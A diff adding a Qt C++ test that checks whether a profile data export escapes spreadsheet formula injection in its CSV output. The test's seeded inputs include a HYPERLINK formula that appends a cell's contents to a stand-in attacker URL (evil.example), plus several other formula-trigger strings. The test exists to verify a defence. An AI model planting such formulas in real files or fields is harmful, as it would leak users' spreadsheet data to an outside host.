@@ -341,6 +341,82 @@ private Q_SLOTS:
                                      QStringLiteral("requests.csv")}));
     }
 
+    void csvCellsNeverRunAsFormulas()
+    {
+        // Text a user (or anyone who can write to their profile) controls.
+        const QStringList hostile{QStringLiteral("=HYPERLINK(\"https://evil.example/\"&A1)"),
+                                  QStringLiteral("+1+2"),
+                                  QStringLiteral("-2+3"),
+                                  QStringLiteral("@SUM(A1)"),
+                                  QStringLiteral("\tTab"),
+                                  QStringLiteral("\rReturn"),
+                                  QStringLiteral("plain")};
+        bool ok = false;
+        m_server.runSql(QStringLiteral("UPDATE profiles SET full_name = ?, address_line1 = ?,"
+                                       " address_line2 = ?, city = ?, region = ?, phone = ?,"
+                                       " website = ? WHERE account_id = 'demo-james'"),
+                        {hostile.at(0), hostile.at(1), hostile.at(2), hostile.at(3), hostile.at(4),
+                         hostile.at(5), hostile.at(6)},
+                        &ok);
+        QVERIFY2(ok, qPrintable(m_server.lastError()));
+        const Reply created = m_server.postJson(
+            kRequests,
+            QJsonObject{
+                {QStringLiteral("type"), QStringLiteral("export")},
+                {QStringLiteral("payload"),
+                 QJsonObject{{QStringLiteral("categories"), QJsonArray{QStringLiteral("profile")}},
+                             {QStringLiteral("format"), QStringLiteral("both")}}}},
+            m_otherToken, {{"Idempotency-Key", "export-formulas"}});
+        QCOMPARE(created.status, 201);
+        const QString id = created.json().value(QStringLiteral("id")).toString();
+        QTRY_COMPARE_WITH_TIMEOUT(m_server.get(kRequests + QLatin1Char('/') + id, m_otherToken)
+                                      .json()
+                                      .value(QStringLiteral("status"))
+                                      .toString(),
+                                  QStringLiteral("completed"), kWaitMs);
+        QByteArray bytes =
+            m_server
+                .get(kRequests + QLatin1Char('/') + id + QStringLiteral("/archive"), m_otherToken)
+                .body;
+        QBuffer buffer(&bytes);
+        QuaZip zip(&buffer);
+        QVERIFY(zip.open(QuaZip::mdUnzip));
+        QHash<QString, QByteArray> files;
+        for (bool more = zip.goToFirstFile(); more; more = zip.goToNextFile()) {
+            QuaZipFile file(&zip);
+            QVERIFY(file.open(QIODevice::ReadOnly));
+            files.insert(zip.getCurrentFileName(), file.readAll());
+        }
+        QList<QStringList> records;
+        QVERIFY(parseCsv(files.value(QStringLiteral("profile.csv")), &records));
+        QCOMPARE(records.size(), 2);
+        const QStringList header = records.at(0);
+        const QStringList row = records.at(1);
+        QCOMPARE(row.size(), header.size());
+        const QStringList columns{QStringLiteral("full_name"),      QStringLiteral("address_line1"),
+                                  QStringLiteral("address_line2"),  QStringLiteral("address_city"),
+                                  QStringLiteral("address_region"), QStringLiteral("phone"),
+                                  QStringLiteral("website")};
+        for (qsizetype i = 0; i < columns.size(); ++i) {
+            QVERIFY2(header.contains(columns.at(i)), qPrintable(header.join(u',')));
+            const QString cell = row.at(header.indexOf(columns.at(i)));
+            const QString expected =
+                i + 1 < columns.size() ? QLatin1Char('\'') + hostile.at(i) : hostile.at(i);
+            QCOMPARE(cell, expected);
+        }
+        // The JSON file keeps the text as it is, and the manifest says what
+        // was done to the CSV.
+        const QJsonArray json =
+            QJsonDocument::fromJson(files.value(QStringLiteral("profile.json"))).array();
+        QCOMPARE(json.at(0).toObject().value(QStringLiteral("full_name")).toString(),
+                 hostile.at(0));
+        const QJsonObject manifest =
+            QJsonDocument::fromJson(files.value(QStringLiteral("manifest.json"))).object();
+        QVERIFY(manifest.value(QStringLiteral("csv_formula_escape"))
+                    .toString()
+                    .contains(QLatin1String("formulas")));
+    }
+
 private:
     TestServer m_server;
     QString m_token;
